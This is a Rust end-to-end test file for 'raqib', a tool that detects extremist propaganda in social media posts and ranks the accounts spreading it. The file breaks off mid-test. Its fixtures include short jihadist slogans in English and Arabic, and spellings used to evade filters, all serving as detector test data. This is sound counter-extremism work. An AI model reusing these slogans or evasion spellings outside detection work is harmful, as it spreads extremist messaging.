//! The `raqib` binary end to end: what a user runs and what they get back.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn raqib() -> Command {
    Command::new(env!("CARGO_BIN_EXE_raqib"))
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn run(args: &[&str]) -> Output {
    raqib()
        .args(args)
        .current_dir(root())
        .output()
        .expect("raqib runs")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn jsonl(path: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn scan_of_the_sample_flags_propaganda_not_news_and_ranks_spreaders_first() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "examples/sample.jsonl",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let posts = jsonl(&out.join("posts.jsonl"));
    let flagged: Vec<&str> = posts.iter().map(|p| p["id"].as_str().unwrap()).collect();
    for id in ["p1", "p13", "p14", "p18"] {
        assert!(flagged.contains(&id), "{id} not flagged: {flagged:?}");
    }
    // News, researcher, imam and chatter are not flagged.
    for id in ["p5", "p6", "p8", "p9", "p11", "p12", "p19", "p21", "p22"] {
        assert!(!flagged.contains(&id), "{id} flagged: {flagged:?}");
    }
    // Every flag carries evidence that is a span of its own text, and where it came from.
    for p in &posts {
        let text = p["text"].as_str().unwrap();
        let ev = p["evidence"].as_array().unwrap();
        assert!(!ev.is_empty(), "{p}");
        for e in ev {
            let (s, t) = (
                e["start"].as_u64().unwrap() as usize,
                e["end"].as_u64().unwrap() as usize,
            );
            assert_eq!(&text[s..t], e["text"].as_str().unwrap());
        }
        assert_eq!(p["file"], "examples/sample.jsonl");
        assert!(p["line"].as_u64().unwrap() > 1);
    }
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let top3: Vec<&str> = accounts[..3]
        .iter()
        .map(|a| a["id"].as_str().unwrap())
        .collect();
    for id in ["1001", "1005", "2001"] {
        assert!(top3.contains(&id), "{id} not in top 3: {top3:?}");
    }
    let news = accounts.iter().find(|a| a["id"] == "1002").unwrap();
    assert_eq!(news["flagged"], false);
    let csv = std::fs::read_to_string(out.join("accounts.csv")).unwrap();
    assert!(csv.starts_with("rank_risk,rank_reach,platform,id,handle"));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 22);
    assert_eq!(summary["interrupted"], false);
    assert!(stdout(&o).contains("accounts by risk"));
}

/// A scan into a directory that holds an earlier scan's reports replaces every one of
/// them (the old ones are deleted off the scan's path, and none is left behind under
/// another name), and leaves the user's own files alone.
#[test]
fn a_second_scan_into_the_same_directory_replaces_the_reports() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    std::fs::create_dir(&out).unwrap();
    // The earlier run's reports, larger than this run's, and a file of the user's.
    let old = "{\"id\":\"old\"}\n".repeat(100_000);
    for name in [
        "posts.jsonl",
        "accounts.jsonl",
        "accounts.csv",
        "summary.json",
    ] {
        std::fs::write(out.join(name), &old).unwrap();
    }
    // What a run stopped before it had deleted its old reports leaves.
    std::fs::write(out.join(".raqib-old-1-0-posts.jsonl"), &old).unwrap();
    std::fs::write(out.join("notes.txt"), "mine").unwrap();
    let news = write(
        dir.path(),
        "news.jsonl",
        b"{\"id\":\"n1\",\"account\":\"a1\",\"text\":\"the court heard the case\"}\n",
    );
    let o = run(&["scan", &news, "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "accounts.csv",
            "accounts.jsonl",
            "diagnostics.jsonl",
            "notes.txt",
            "posts.jsonl",
            "summary.json",
            "summary.txt"
        ]
    );
    assert_eq!(
        std::fs::read_to_string(out.join("posts.jsonl")).unwrap(),
        ""
    );
    let accounts = jsonl(&out.join("accounts.jsonl"));
    assert_eq!(accounts.len(), 1);
    assert_eq!(accounts[0]["id"], "a1");
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 1);
    assert_eq!(
        std::fs::read_to_string(out.join("notes.txt")).unwrap(),
        "mine"
    );
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_string()
}

#[test]
fn bad_input_is_reported_with_file_and_line_and_the_scan_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let mut b = Vec::new();
    b.extend_from_slice(b"{\"id\":\"ok1\",\"account\":\"a\",\"text\":\"hello\"}\n");
    b.extend_from_slice(b"{\"id\":\"trunc\",\"text\":\"hel\n");
    b.extend_from_slice(b"\xff\xfe\x00binary\n");
    b.extend_from_slice(
        format!(
            "{{\"id\":\"huge\",\"text\":\"{}\"}}\n",
            "a".repeat(10 << 20)
        )
        .as_bytes(),
    );
    b.extend_from_slice(
        b"{\"id\":\"ok2\",\"account\":\"a\",\"text\":\"world\",\"unknown_field\":1}\n",
    );
    let bad = write(dir.path(), "bad.jsonl", &b);
    let empty = write(dir.path(), "empty.jsonl", b"");
    let nocol = write(dir.path(), "nocol.csv", b"id,post_body\n1,x\n");
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        &bad,
        &empty,
        &nocol,
        "/nonexistent.jsonl",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("bad.jsonl:2: not valid JSON"), "{err}");
    assert!(err.contains("bad.jsonl:3: invalid UTF-8"), "{err}");
    assert!(
        err.contains("bad.jsonl:4: record of 10485") && err.contains("--max-record-bytes"),
        "{err}"
    );
    assert!(err.contains("empty.jsonl: file is empty"), "{err}");
    assert!(err.contains("--csv-map text=COLUMN"), "{err}");
    assert!(err.contains("/nonexistent.jsonl: cannot open"), "{err}");
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["posts"], 2);
    assert_eq!(summary["skipped_records"], 6);
    assert_eq!(summary["files_unreadable"], 2);
    assert_eq!(jsonl(&out.join("diagnostics.jsonl")).len(), 6);
    assert!(stdout(&o).contains("skipped: 6 record(s)"));

    let strict = run(&["scan", "--strict", &bad]);
    assert_eq!(strict.status.code(), Some(1));
    assert!(
        stderr(&strict).contains("bad.jsonl:2") && stderr(&strict).contains("--strict"),
        "{}",
        stderr(&strict)
    );

    let none = run(&["scan", "/nonexistent.jsonl"]);
    assert_eq!(none.status.code(), Some(1));
    assert!(
        stderr(&none).contains("no input could be read"),
        "{}",
        stderr(&none)
    );
}

/// `--since` / `--until`: posts made outside the window are passed over (not scored,
/// not counted for their accounts) and counted; a post with no time is scanned and
/// counted; the summary gives the window; an age (`48h`) counts back from now; a time
/// that is none says what to give.
#[test]
fn a_time_window_scans_only_the_posts_made_in_it() {
    let d = tempfile::tempdir().unwrap();
    let post = |id: &str, account: &str, at: Option<&str>| {
        let mut v = serde_json::json!({"raqib": 1, "type": "post", "id": id,
            "account": account, "text": "Soldiers of the Khilafah advance, glad tidings"});
        if let Some(at) = at {
            v["created_at"] = serde_json::json!(at);
        }
        v.to_string() + "\n"
    };
    let input = [
        post("before", "a1", Some("2026-10-31T23:59:59Z")),
        post("first", "a2", Some("2026-11-01T00:00:00Z")),
        post("inside", "a2", Some("2026-11-05T12:00:00+03:00")),
        post("undated", "a3", None),
        post("until", "a4", Some("2026-11-10T00:00:00Z")),
    ]
    .concat();
    let f = write(d.path(), "posts.jsonl", input.as_bytes());
    let out = d.path().join("r");
    // Scan with `window` added: the ids of the posts written, and the summary.
    let scan = |window: &[&str]| {
        let mut args = vec![
            "scan",
            &f,
            "-q",
            "--all-posts",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend_from_slice(window);
        let o = run(&args);
        assert!(o.status.success(), "{}", stderr(&o));
        let ids: Vec<String> = jsonl(&out.join("posts.jsonl"))
            .iter()
            .map(|p| p["id"].as_str().unwrap().to_string())
            .collect();
        let summary = std::fs::read_to_string(out.join("summary.json")).unwrap();
        (
            ids,
            serde_json::from_str::<serde_json::Value>(&summary).unwrap(),
        )
    };
    let (ids, summary) = scan(&["--since", "2026-11-01", "--until", "2026-11-10"]);
    assert_eq!(ids, ["first", "inside", "undated"]);
    let accounts: Vec<String> = jsonl(&out.join("accounts.jsonl"))
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(accounts.len(), 2, "{accounts:?}");
    assert!(
        accounts.iter().all(|a| a == "a2" || a == "a3"),
        "{accounts:?}"
    );
    assert_eq!(summary["posts"], 3, "{summary}");
    let w = &summary["window"];
    assert_eq!(w["since"], "2026-11-01T00:00:00Z");
    assert_eq!(w["until"], "2026-11-10T00:00:00Z");
    assert_eq!(
        (w["outside"].as_u64(), w["undated"].as_u64()),
        (Some(2), Some(1))
    );
    let text = std::fs::read_to_string(out.join("summary.txt")).unwrap();
    assert!(
        text.contains("2 post(s) made outside it passed over"),
        "{text}"
    );
    // An age back from now: these posts are all older than two days, the undated one kept.
    assert_eq!(scan(&["--since", "48h"]).0, ["undated"]);
    // Without a window, every post and no window in the summary.
    let (ids, summary) = scan(&[]);
    assert_eq!(ids.len(), 5);
    assert!(summary["window"].is_null(), "{summary}");
    let o = run(&["scan", &f, "--since", "2026-11-10", "--until", "2026-11-01"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("--since is not before --until"),
        "{}",
        stderr(&o)
    );
    let o = run(&["scan", &f, "--since", "last week"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("an age back from now (7d, 24h, 90m)"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn stdin_and_compressed_stdin_are_read() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"{\"id\":\"1\",\"text\":\"Renew your bay'ah to the khalifah\"}\n")
        .unwrap();
    let gz = gz.finish().unwrap();
    let mut child = raqib()
        .args(["scan", "--json", "-"])
        .current_dir(root())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&gz).unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(s["posts"], 1);
    assert_eq!(s["flagged_posts"], 1);
}

/// The built-in model is what a fresh checkout (and `raqib serve` without `--model`) uses:
/// it must not flag everyday posts that share words with propaganda (brothers, soldiers,
/// state, release, spread, follow) or are simply long. `corpus/hard_negatives.jsonl` is
/// never trained on.
#[test]
fn the_built_in_model_leaves_everyday_posts_and_hard_negatives_alone() {
    let o = run(&["eval", "--data", "corpus/hard_negatives.jsonl", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(v["overall"]["n"].as_u64().unwrap() >= 170, "{v}");
    for lang in ["en", "ar"] {
        let fpr = v["by_language"][lang]["false_positive_rate"]
            .as_f64()
            .unwrap();
        assert!(fpr <= 0.05, "{lang}: {fpr} of hard negatives flagged");
    }
    // A post with nothing the model knows (an emoji, a number, a handle) is no evidence;
    // nor is a word or two of everyday talk or prayer, which the few features of a short
    // text once made count for as much as a sentence (each flagged at 0.77–0.98 then).
    for text in [
        "🤔",
        "6",
        "@someone_new",
        "https://t.co/x",
        "the",
        "of",
        "haha",
        "hahahahaha",
        "Allahu akbar",
        "mashallah",
        "inshallah",
        "الله",
        "والله",
        "لا إله إلا الله",
    ] {
        let o = run(&["explain", text]);
        assert!(stdout(&o).contains("not flagged"), "{text}: {}", stdout(&o));
    }
}

/// Long posts (`corpus/long_posts.jsonl`, never trained on): a line of propaganda padded
/// with a hundred words of everyday talk, at the end or the start, is flagged by the
/// built-in model with that line's words as its evidence (scored whole, the talk drowned
/// it: 0.000), and no long news report, counter-speech, research thread, sermon or chatter
/// is flagged.
#[test]
fn long_posts_are_judged_by_their_strongest_window() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "-q",
        "--all-posts",
        "corpus/long_posts.jsonl",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let posts = jsonl(&out.join("posts.jsonl"));
    assert_eq!(posts.len(), 31);
    for p in &posts {
        let id = p["id"].as_str().unwrap();
        if id.starts_with("long-n-") {
            assert_eq!(p["flagged"], false, "{p}");
        }
    }
    for (id, line) in [
        (
            "long-p-en-end",
            "Glad tidings for the soldiers of the Khilafah",
        ),
        ("long-p-en-start", "Hijrah to the land of the Khilafah"),
        ("long-p-ar-end", "بشرى لجنود الخلافة"),
    ] {
        let p = posts.iter().find(|p| p["id"] == id).unwrap();
        assert_eq!(p["flagged"], true, "{p}");
        let text = p["text"].as_str().unwrap();
        let at = text.find(line).unwrap();
        let evidence = p["evidence"].as_array().unwrap();
        assert!(!evidence.is_empty(), "{p}");
        for e in evidence {
            // Every span lies in the propaganda line's window, none in the talk far from it.
            let start = e["start"].as_u64().unwrap() as usize;
            assert!(
                start + 200 > at && start < at + 200,
                "{id}: {e} far from the line"
            );
        }
    }
}

/// What a reviewer reads first is the evidence: on the sample, the built-in model's reasons
/// for a flag are the loaded words, never bare function words.
#[test]
fn the_built_in_model_explains_flags_with_content_words() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().to_str().unwrap();
    let o = run(&["scan", "-q", "examples/sample.jsonl", "--out", out]);
    assert!(o.status.success(), "{}", stderr(&o));
    let posts = std::fs::read_to_string(dir.path().join("posts.jsonl")).unwrap();
    let mut flagged = 0;
    for line in posts.lines() {
        let p: serde_json::Value = serde_json::from_str(line).unwrap();
        flagged += 1;
        let evidence = p["evidence"].as_array().unwrap();
        assert!(!evidence.is_empty(), "{line}");
        for e in evidence {
            let word = e["feature"].as_str().unwrap();
            assert!(
                !["the", "of", "a", "an", "to", "and", "in", "is", "for", "في", "من", "على"]
                    .contains(&word),
                "a function word as evidence: {line}"
            );
        }
    }
    assert!(flagged >= 5, "{posts}");
}

#[test]
fn train_then_eval_then_scan_with_the_trained_model() {
    let dir = tempfile::tempdir().unwrap();
    let model = dir.path().join("m.model");
    let m = model.to_str().unwrap();
    let o = run(&[
        "train",
        "--data",
        "corpus/starter.jsonl",
        "--out",
        m,
        "--bits",
        "16",
        "--threads",
        "1",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    // Every post of the corpus, its header line aside.
    let posts = std::fs::read_to_string(root().join("corpus/starter.jsonl"))
        .unwrap()
        .lines()
        .filter(|l| l.contains("\"type\": \"post\""))
        .count();
    assert!(posts > 300);
    assert!(
        stderr(&o).contains(&format!("trained on {posts} posts")),
        "{}",
        stderr(&o)
    );
    let o = run(&[
        "eval",
        "--model",
        m,
        "--data",
        "corpus/hard_negatives.jsonl",
        "--json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["overall"]["positives"], 0);
    assert!(v["by_language"]["ar"]["n"].as_u64().unwrap() > 0);
    assert!(v["overall"]["false_positive_rate"].as_f64().unwrap() <= 0.25);
    let o = run(&["eval", "--model", m, "--data", "corpus/starter.jsonl"]);
    let table = stdout(&o);
    for col in [
        "precision",
        "recall",
        "F1",
        "ROC-AUC",
        "PR-AUC",
        "confusion: TP",
    ] {
        assert!(table.contains(col), "{table}");
    }
    let o = run(&["scan", "--model", m, "examples/sample.jsonl", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn a_damaged_or_foreign_model_gives_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let foreign = write(dir.path(), "x.model", b"__label__1 not a raqib model");
    let o = run(&["scan", "--model", &foreign, "examples/sample.jsonl"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("not a raqib model file"),
        "{}",
        stderr(&o)
    );
    let o = run(&[
        "eval",
        "--model",
        "/nonexistent.model",
        "--data",
        "corpus/starter.jsonl",
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("/nonexistent.model"), "{}", stderr(&o));
}

#[test]
fn ctrl_c_leaves_a_valid_partial_report() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let mut child = raqib()
        .args(["scan", "-q", "-", "--out", out.to_str().unwrap()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    for i in 0..2000 {
        writeln!(stdin, "{{\"id\":\"{i}\",\"account\":\"a{}\",\"text\":\"join the soldiers of the khilafah {i}\"}}", i % 7).unwrap();
    }
    stdin.flush().unwrap();
    // The reports are created after the Ctrl-C handler is installed: wait for them, so
    // the signal cannot arrive before raqib is ready for it, however slow the machine.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !out.join("posts.jsonl").exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the scan never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    let killed = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    std::thread::sleep(std::time::Duration::from_millis(200));
    drop(stdin);
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(130), "{}", stderr(&o));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["interrupted"], true);
    let posts = summary["posts"].as_u64().unwrap();
    assert!(posts <= 2000, "{posts}");
    // Every line written is whole JSON.
    assert_eq!(
        jsonl(&out.join("posts.jsonl")).len() as u64,
        summary["flagged_posts"].as_u64().unwrap()
    );
    assert!(!jsonl(&out.join("accounts.jsonl")).is_empty());
}

#[test]
fn explain_and_normalise_show_their_work() {
    let o = run(&["explain", "Renew your bay'ah to the K.H.I.L.A.F.A.H"]);
    assert!(o.status.success());
    let s = stdout(&o);
    assert!(
        s.contains("FLAGGED") && s.contains("«K.H.I.L.A.F.A.H»"),
        "{s}"
    );
    let o = run(&["normalise", "د ا ع ش", "ＩＳＩＳ", "الدولـــة"]);
    assert_eq!(stdout(&o), "داعش\nisis\nالدوله\n");
}

#[test]
fn help_teaches_and_bad_arguments_say_what_to_do() {
    let o = run(&["scan", "--help"]);
    let s = stdout(&o);
    assert!(
        s.contains("Examples:") && s.contains("--csv-map") && s.contains("--strict"),
        "{s}"
    );
    let o = run(&["scan", "x.jsonl", "--format", "xml"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains(
            "use auto, jsonl, csv, twitter-v2, tweets, twitter-archive, activitypub, matrix, discord, meta, reddit, bluesky, telegram, telegram-html or whatsapp"
        ),
        "{}",
        stderr(&o)
    );
    let o = run(&["scan", "examples/sample.jsonl", "--threshold", "7"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("between 0 and 1"));
}

/// An account whose propaganda is a minority of its posts keeps a low mean score, so its
/// risk stays under the threshold; it is flagged for its count of flagged posts, with the
/// reason in its `why`. A news account with one false flag among as many posts is not.
#[test]
fn an_account_is_flagged_for_more_flagged_posts_than_false_flags_explain() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = String::new();
    for i in 0..30 {
        let (spreader, news) = if i < 8 {
            (
                "Soldiers of the Khilafah advance, glad tidings for the muwahhideen",
                if i == 0 {
                    "Soldiers of the Khilafah advance, glad tidings for the muwahhideen"
                } else {
                    "Police say the attack suspect was arrested on Monday"
                },
            )
        } else {
            (
                "going to the market later, anyone want anything",
                "Police say the attack suspect was arrested on Monday",
            )
        };
        for (account, text) in [("spreader", spreader), ("news", news)] {
            lines.push_str(&format!(
                "{{\"id\":\"{account}{i}\",\"account\":\"{account}\",\"text\":\"{text}\"}}\n"
            ));
        }
    }
    let input = write(dir.path(), "mixed.jsonl", lines.as_bytes());
    let out = dir.path().join("r");
    let o = run(&["scan", "-q", &input, "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let get = |id: &str| accounts.iter().find(|a| a["id"] == id).unwrap().clone();
    let (spreader, news) = (get("spreader"), get("news"));
    assert_eq!(spreader["flagged_posts"], 8);
    assert!(spreader["risk"].as_f64().unwrap() < 0.75, "{spreader}");
    assert_eq!(spreader["flagged"], true, "{spreader}");
    let why = spreader["why"].as_str().unwrap();
    assert!(
        why.contains("8 of 30 posts flagged")
            && why.contains("more than a clean account's false flags explain (1.5 expected at 5%)"),
        "{why}"
    );
    assert_eq!(news["flagged_posts"], 1);
    assert_eq!(news["flagged"], false, "{news}");
    let summary: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap();
    assert!(
        summary["account_rule"]
            .as_str()
            .unwrap()
            .starts_with("account-v3: risk at least 0.7500 with a flagged post, or at least 3"),
        "{summary}"
    );
    // Stricter settings leave it unflagged: the options reach the rule.
    let o = run(&[
        "scan",
        "-q",
        &input,
        "--out",
        out.to_str().unwrap(),
        "--account-min-flagged",
        "9",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let accounts = jsonl(&out.join("accounts.jsonl"));
    let spreader = accounts.iter().find(|a| a["id"] == "spreader").unwrap();
    assert_eq!(spreader["flagged"], false, "{spreader}");
}

#[test]
fn account_settings_are_checked_and_a_lowered_threshold_says_what_to_raise() {
    for (arg, value, want) in [
        (
            "--account-clean-rate",
            "5",
            "--account-clean-rate wants a share above 0 and below 1",
        ),
        (
            "--account-clean-rate",
            "0",
            "--account-clean-rate wants a share",
        ),
        (
            "--account-chance",
            "0.7",
            "--account-chance wants a chance above 0 and below 0.5",
        ),
        (
            "--account-min-flagged",
            "0",
            "--account-min-flagged must be at least 1",
        ),
    ] {
        let o = run(&["scan", "-q", "examples/sample.jsonl", arg, value]);
        assert_eq!(o.status.code(), Some(1), "{arg} {value}");
        assert!(stderr(&o).contains(want), "{arg} {value}: {}", stderr(&o));
    }
    // A trained model knows how often a threshold flags its dev negatives: a lowered
    // threshold raises the clean rate with it, and needs no note.
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let out = out.to_str().unwrap();
    let model = dir.path().join("m.model");
    let model = model.to_str().unwrap();
    let o = run(&["train", "--data", "corpus/starter.jsonl", "--out", model]);
    assert!(o.status.success(), "{}", stderr(&o));
    // A threshold that flags at least a fifth of its dev negatives (cross-validated here).
    let trained = raqib_text::Model::load(model).unwrap();
    let neg = trained.header.dev_negatives.clone().expect("kept");
    let t = neg.top[(neg.count as usize / 5).min(neg.top.len() - 1)];
    assert!(t < trained.header.threshold);
    let share = neg.share_at(t).unwrap();
    assert!(share >= 0.2, "{share}");
    let threshold = t.to_string();
    let lowered = |model: &str, more: &[&str]| {
        let mut args = vec!["scan", "examples/sample.jsonl", "--out", out];
        args.extend_from_slice(&["--model", model, "--threshold", &threshold]);
        args.extend_from_slice(more);
        let o = run(&args);
        assert!(o.status.success(), "{}", stderr(&o));
        let summary: serde_json::Value =
            serde_json::from_slice(&std::fs::read(dir.path().join("r/summary.json")).unwrap())
                .unwrap();
        (
            stderr(&o),
            summary["account_rule"].as_str().unwrap().to_string(),
        )
    };
    let (err, rule) = lowered(model, &[]);
    assert!(!err.contains("note:"), "{err}");
    let rate = format!("{:.1}", (2.5 * share).min(0.99) * 100.0);
    let rate = rate.trim_end_matches('0').trim_end_matches('.');
    assert!(
        rule.contains(&format!("({rate}% of posts")),
        "{rule}, share {share}"
    );
    let (_, given) = lowered(model, &["--account-clean-rate", "0.07"]);
    assert!(given.contains("(7% of posts"), "{given}");
    // A model from an older raqib, without its dev negatives' scores: the default, and a
    // note that says what to give instead.
    let mut old = raqib_text::Model::load(model).unwrap();
    old.header.dev_negatives = None;
    let old_path = dir.path().join("old.model");
    old.save(&old_path).unwrap();
    let (err, rule) = lowered(old_path.to_str().unwrap(), &[]);
    assert!(rule.contains("(5% of posts"), "{rule}");
    assert!(
        err.contains("note: --threshold is below a model's own")
            && err.contains("give --account-clean-rate the share of negatives flagged"),
        "{err}"
    );
    let (err, _) = lowered(old_path.to_str().unwrap(), &["--account-clean-rate", "0.3"]);
    assert!(!err.contains("note:"), "{err}");
}

#[test]
fn posts_are_routed_to_their_languages_model() {
    let dir = tempfile::tempdir().unwrap();
    // An Arabic model that flags nothing Arabic: trained with Arabic labels flipped.
    let flipped: String = std::fs::read_to_string(root().join("corpus/starter.jsonl"))
        .unwrap()
        .lines()
        .filter(|l| l.contains("\"lang\": \"ar\""))
        .map(|l| {
            l.replace("\"label\": 1", "\"label\": X")
                .replace("\"label\": 0", "\"label\": 1")
                .replace("\"label\": X", "\"label\": 0")
                + "\n"
        })
        .collect();
    let data = write(dir.path(), "ar_flipped.jsonl", flipped.as_bytes());
    let ar = dir.path().join("ar.model");
    let o = run(&[
        "train",
        "--data",
        &data,
        "--out",
        ar.to_str().unwrap(),
        "--bits",
        "14",
        "--threads",
        "1",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let spec = format!("ar={}", ar.display());
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "--json",
        "examples/sample.jsonl",
        "--model",
        &spec,
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let s: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        s["model"].as_str().unwrap().contains("ar: "),
        "{}",
        s["model"]
    );
    let flagged: Vec<String> = jsonl(&out.join("posts.jsonl"))
        .iter()
        .map(|p| p["id"].as_str().unwrap().to_string())
        .collect();
    // The Arabic propaganda-style posts go to the flipped model and are not flagged...
    for id in ["p13", "p14", "p15", "p16"] {
        assert!(
            !flagged.contains(&id.to_string()),
            "{id} flagged: {flagged:?}"
        );
    }
    // ...while the English ones still go to the default model and are.
    for id in ["p1", "p2", "p17"] {
        assert!(
            flagged.contains(&id.to_string()),
            "{id} not flagged: {flagged:?}"
        );
    }
    let o = run(&[
        "scan",
        "examples/sample.jsonl",
        "--model",
        ar.to_str().unwrap(),
        "--model",
        ar.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("two default models"), "{}", stderr(&o));
}

/// Regression: posts from CSV (and other parsed formats) lost their file name in reports.
#[test]
fn every_format_reports_the_file_and_line_of_each_post() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let o = run(&[
        "scan",
        "--all-posts",
        "-q",
        "tests/data/shared_shape.csv",
        "tests/data/twitter_v2.json",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let posts = jsonl(&out.join("posts.jsonl"));
    let csv: Vec<_> = posts
        .iter()
        .filter(|p| p["id"] == "x-1" || p["id"] == "x-2")
        .collect();
    assert_eq!(csv.len(), 2);
    for p in csv {
        assert_eq!(p["file"], "tests/data/shared_shape.csv");
    }
    assert_eq!(posts.iter().find(|p| p["id"] == "x-1").unwrap()["line"], 2);
    assert_eq!(posts.iter().find(|p| p["id"] == "x-2").unwrap()["line"], 4);
    let tw = posts
        .iter()
        .find(|p| p["id"] == "1500000000000000001")
        .unwrap();
    assert_eq!(tw["file"], "tests/data/twitter_v2.json");
}

#[test]
fn train_refuses_thresholds_outside_what_a_model_can_hold() {
    for (arg, want) in [
        (
            "--min-threshold=1.5",
            "--min-threshold wants a probability from 0 to 0.99",
        ),
        (
            "--min-threshold=-0.1",
            "--min-threshold wants a probability",
        ),
        ("--target-fpr=2", "--target-fpr wants a share from 0"),
    ] {
        let o = run(&[
            "train",
            "--data",
            "corpus/starter.jsonl",
            arg,
            "--out",
            "/dev/null",
        ]);
        assert!(!o.status.success(), "{arg}");
        assert!(stderr(&o).contains(want), "{arg}: {}", stderr(&o));
    }
}

/// A flag needs the text's own words. A text with nothing the model knows ("🤔", a number,
/// a new handle) scores the model's prior, or below it; `raqib train` puts the default
/// threshold above the prior, but a reviewer who lowers the threshold for recall (or a
/// model whose prior is high) would see them flagged with nothing to show. `scan`, `eval`
/// and `explain` flag none of them at any threshold.
#[test]
fn a_text_without_evidence_is_never_flagged_even_under_a_low_threshold() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("small.jsonl");
    let mut f = std::fs::File::create(&data).unwrap();
    for i in 0..40 {
        writeln!(
            f,
            r#"{{"id":"p{i}","text":"khilafah soldiers advance {i}","label":1}}"#
        )
        .unwrap();
    }
    for i in 0..10 {
        writeln!(
            f,
            r#"{{"id":"n{i}","text":"lovely weather in the park {i}","label":0}}"#
        )
        .unwrap();
    }
    drop(f);
    let model = dir.path().join("small.model");
    let (data_s, model_s) = (data.to_str().unwrap(), model.to_str().unwrap());
    let o = run(&[
        "train",
        "--data",
        data_s,
        "--out",
        model_s,
        "--threads",
        "1",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));

    // The situation this guards against: "🤔" scores over the threshold.
    let o = run(&["explain", "--model", model_s, "--threshold", "0.3", "🤔"]);
    let out = stdout(&o);
